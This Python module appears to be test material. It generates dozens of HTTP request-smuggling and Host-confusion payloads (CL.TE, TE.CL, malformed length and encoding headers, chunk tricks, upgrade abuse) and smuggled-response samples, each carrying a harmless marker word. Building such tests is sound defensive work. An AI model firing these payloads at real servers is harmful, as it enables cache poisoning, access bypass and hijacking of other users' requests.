"""Requests that hide another request, or another host, from one of two programs that read them.

Every attempt tries to bring the word ``smuggled`` to the server, in the head of a request that nobody judged.
"""

from typing import NamedTuple

WORD = b"smuggled"


class Attempt(NamedTuple):
    name: str
    data: bytes


def hidden(host: bytes) -> bytes:
    return b"GET /smuggled HTTP/1.1\r\nHost: %b\r\n\r\n" % host


def attempts(url: bytes, host: bytes) -> list[Attempt]:
    """``url`` is what the target of a request begins with (nothing in origin-form), ``host`` the allowed host."""
    start = b"POST %b/ HTTP/1.1\r\nHost: %b\r\n" % (url, host)
    inner = hidden(b"evil.example")
    size = len(inner)
    chunks = b"0\r\n\r\n" + inner
    heads: dict[str, bytes] = {
        "CL.TE": b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n" % (size + 5) + chunks,
        "TE.CL": b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n%x\r\n" % size + inner + b"\r\n0\r\n\r\n",
        "CL.CL same": b"Content-Length: %d\r\nContent-Length: %d\r\n\r\n" % (size, size) + inner,
        "CL.CL other": b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % size + inner,
        "CL list": b"Content-Length: %d, %d\r\n\r\n" % (size, size) + inner,
        "CL plus": b"Content-Length: +%d\r\n\r\n" % size + inner,
        "CL padded": b"Content-Length:  %d \r\n\r\n" % size + inner,
        "CL octal": b"Content-Length: 0%d\r\n\r\n" % size + inner,
        "CL hex": b"Content-Length: 0x%x\r\n\r\n" % size + inner,
        "CL underscore digits": b"Content-Length: 1_0\r\n\r\n" + inner,
        "CL negative": b"Content-Length: -1\r\n\r\n" + inner,
        "CL huge": b"Content-Length: 18446744073709551616\r\n\r\n" + inner,
        "CL with underscore": b"Content_Length: %d\r\n\r\n" % size + inner,
        "TE twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n" + chunks,
        "TE list": b"Transfer-Encoding: chunked, identity\r\n\r\n" + chunks,
        "TE other": b"Transfer-Encoding: xchunked\r\n\r\n" + chunks,
        "TE gzip": b"Transfer-Encoding: gzip, chunked\r\n\r\n" + chunks,
        "TE case": b"Transfer-Encoding: cHuNkEd\r\nContent-Length: %d\r\n\r\n" % (size + 5) + chunks,
        "TE space before colon": b"Transfer-Encoding : chunked\r\nContent-Length: %d\r\n\r\n" % (size + 5) + chunks,
        "TE tab": b"Transfer-Encoding:\tchunked\r\nContent-Length: %d\r\n\r\n" % (size + 5) + chunks,
        "TE vertical tab": b"Transfer-Encoding: \x0bchunked\r\nContent-Length: %d\r\n\r\n" % (size + 5) + chunks,
        "TE folded": b"Transfer-Encoding:\r\n chunked\r\nContent-Length: %d\r\n\r\n" % (size + 5) + chunks,
        "TE in a folded line": b"X: y\r\n Transfer-Encoding: chunked\r\n\r\n" + chunks,
        "TE after bare LF": b"X: y\nTransfer-Encoding: chunked\r\n\r\n" + chunks,
        "TE after bare CR": b"X: y\rTransfer-Encoding: chunked\r\n\r\n" + chunks,
        "TE after NUL": b"X: y\x00\r\nTransfer-Encoding: chunked\x00\r\n\r\n" + chunks,
        "TE with underscore": b"Transfer_Encoding: chunked\r\nContent-Length: %d\r\n\r\n" % (size + 5) + chunks,
        "TE as an option": b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n\r\n" + chunks,
        "CL as an option": b"Connection: Content-Length\r\nContent-Length: %d\r\n\r\n" % size + inner,
        "Host as an option": b"Connection: Host\r\nContent-Length: 0\r\n\r\n" + inner,
        "bare LF end": b"X: y\n\n" + inner,
        "half bare LF end": b"Content-Length: 0\r\n\n" + inner,
        "empty name": b": y\r\nContent-Length: 0\r\n\r\n" + inner,
        "no colon": b"Content-Length\r\n\r\n" + inner,
        "chunk size space": b"Transfer-Encoding: chunked\r\n\r\n0 \r\n\r\n" + inner,
        "chunk size sign": b"Transfer-Encoding: chunked\r\n\r\n+0\r\n\r\n" + inner,
        "chunk size prefix": b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + inner,
        "chunk size overflow": b"Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n\r\n" + inner,
        "chunk size 32 bits": b"Transfer-Encoding: chunked\r\n\r\n100000000\r\n\r\n" + inner,
        "chunk bare LF": b"Transfer-Encoding: chunked\r\n\r\n0\n\n" + inner,
        "chunk data bare LF": b"Transfer-Encoding: chunked\r\n\r\n1\r\nx\n0\r\n\r\n" + inner,
        "chunk too long": b"Transfer-Encoding: chunked\r\n\r\n1\r\nxx0\r\n\r\n" + inner,
        "extension bare LF": b"Transfer-Encoding: chunked\r\n\r\n2;\nxx\r\n%x\r\n" % size + inner + b"\r\n0\r\n\r\n",
        "extension bare CR": b"Transfer-Encoding: chunked\r\n\r\n1;a\rb\r\nx\r\n0\r\n\r\n" + inner,
        "extension quoted": b'Transfer-Encoding: chunked\r\n\r\n1;a="\r\nx\r\n0\r\n\r\n' + inner + b'"\r\n',
        "extension long": b"Transfer-Encoding: chunked\r\n\r\n1;%b\r\nx\r\n0\r\n\r\n" % (b"a" * 9_000) + inner,
        "trailer TE": b"Transfer-Encoding: chunked\r\n\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n" + inner,
        "trailer as a request": b"Transfer-Encoding: chunked\r\n\r\n0\r\n" + inner,
        "expect": b"Expect: 100-continue, x\r\nContent-Length: 0\r\n\r\n" + inner,
        "plain pipelining": b"Content-Length: 0\r\n\r\n" + inner,
        "pipelining behind a body": b"Content-Length: 5\r\n\r\nhello" + inner,
        "pipelining behind chunks": b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n" + chunks,
        "WebSocket that is none": b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n" + inner,
        "h2c": b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n"
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + inner,
    }
    found = [Attempt(name, start + rest) for name, rest in heads.items()]
    lines: dict[str, bytes] = {
        "two hosts": b"GET %b/smuggled HTTP/1.1\r\nHost: %b\r\nHost: evil.example\r\n\r\n" % (url, host),
        "another host": b"GET %b/smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n" % url,
        "a list of hosts": b"GET %b/smuggled HTTP/1.1\r\nHost: %b, evil.example\r\n\r\n" % (url, host),
        "host with a user": b"GET %b/smuggled HTTP/1.1\r\nHost: %b@evil.example\r\n\r\n" % (url, host),
        "host with a path": b"GET %b/smuggled HTTP/1.1\r\nHost: %b/evil.example\r\n\r\n" % (url, host),
        "host folded": b"GET %b/smuggled HTTP/1.1\r\nHost: %b\r\n evil.example\r\n\r\n" % (url, host),
        "host after LF": b"GET %b/smuggled HTTP/1.1\nHost: evil.example\r\nHost: %b\r\n\r\n" % (url, host),
        "no host": b"GET /smuggled HTTP/1.1\r\n\r\n",
        "another URL": b"GET http://evil.example/smuggled HTTP/1.1\r\nHost: %b\r\n\r\n" % host,
        "URL with a user": b"GET http://%b@evil.example/smuggled HTTP/1.1\r\nHost: %b\r\n\r\n" % (host, host),
        "URL with a backslash": b"GET http://%b\\@evil.example/smuggled HTTP/1.1\r\nHost: %b\r\n\r\n" % (host, host),
        "URL with a fragment": b"GET http://%b#@evil.example/smuggled HTTP/1.1\r\nHost: %b\r\n\r\n" % (host, host),
        "two targets": b"GET %b/ HTTP/1.1 /smuggled HTTP/1.1\r\nHost: %b\r\n\r\n" % (url, host),
        "HTTP/0.9": b"GET /smuggled\r\n\r\n",
        "HTTP/1.0 keep-alive": b"POST %b/ HTTP/1.0\r\nHost: %b\r\nConnection: keep-alive\r\n\r\n" % (url, host) + inner,
        "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nsmuggled",
        "TRACE": b"TRACE %b/smuggled HTTP/1.1\r\nHost: %b\r\n\r\n" % (url, host),
        "leading line end": b"\r\nGET %b/smuggled HTTP/1.1\r\nHost: %b\r\n\r\n" % (url, host),
        "leading space": b" GET %b/smuggled HTTP/1.1\r\nHost: %b\r\n\r\n" % (url, host),
        "lower case": b"get %b/smuggled HTTP/1.1\r\nHost: %b\r\n\r\n" % (url, host),
        "CONNECT inside": b"POST %b/ HTTP/1.1\r\nHost: %b\r\nContent-Length: 0\r\n\r\n" % (url, host)
        + b"CONNECT evil.example:80 HTTP/1.1\r\nHost: evil.example:80\r\n\r\n/smuggled",
        "head too long": b"GET %b/ HTTP/1.1\r\nHost: %b\r\nX: %b\r\n\r\n" % (url, host, b"y" * 40_000) + inner,
        "too many headers": b"GET %b/ HTTP/1.1\r\nHost: %b\r\n%b\r\n" % (url, host, b"X: y\r\n" * 500) + inner,
    }
    return found + [Attempt(name, data) for name, data in lines.items()]


def answers() -> list[Attempt]:
    """Answers of a server that hides a second answer behind or in the first."""
    second = b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nsmuggled"
    heads: dict[str, bytes] = {
        "CL and TE": b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "CL twice": b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(second),
        "CL list": b"Content-Length: 0, %d\r\n\r\n" % len(second),
        "CL plus": b"Content-Length: +0\r\n\r\n",
        "TE other": b"Transfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n",
        "TE twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "folded": b"X: y\r\n Content-Length: 0\r\n\r\n",
        "bare LF": b"Content-Length: 0\n\n",
        "chunk bare LF": b"Transfer-Encoding: chunked\r\n\r\n0\n\n",
        "chunk size sign": b"Transfer-Encoding: chunked\r\n\r\n-0\r\n\r\n",
        "trailer CL": b"Transfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 5\r\n\r\n",
    }
    found = [Attempt(name, b"HTTP/1.1 200 OK\r\n" + rest + second) for name, rest in heads.items()]
    lines: dict[str, bytes] = {
        "101 unasked": b"HTTP/1.1 101 Switching\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
        "204 with a body": b"HTTP/1.1 204 No Content\r\nContent-Length: %d\r\n\r\n" % len(second),
        "100 with a body": b"HTTP/1.1 100 Continue\r\nContent-Length: %d\r\n\r\n" % len(second),
        "HTTP/0.9": b"smuggled\r\n\r\n",
        "HTTP/2": b"HTTP/2 200\r\n\r\n",
        "100 without end": b"HTTP/1.1 100 Continue\r\n\r\n" * 100,
    }
    return found + [Attempt(name, line + second) for name, line in lines.items()]
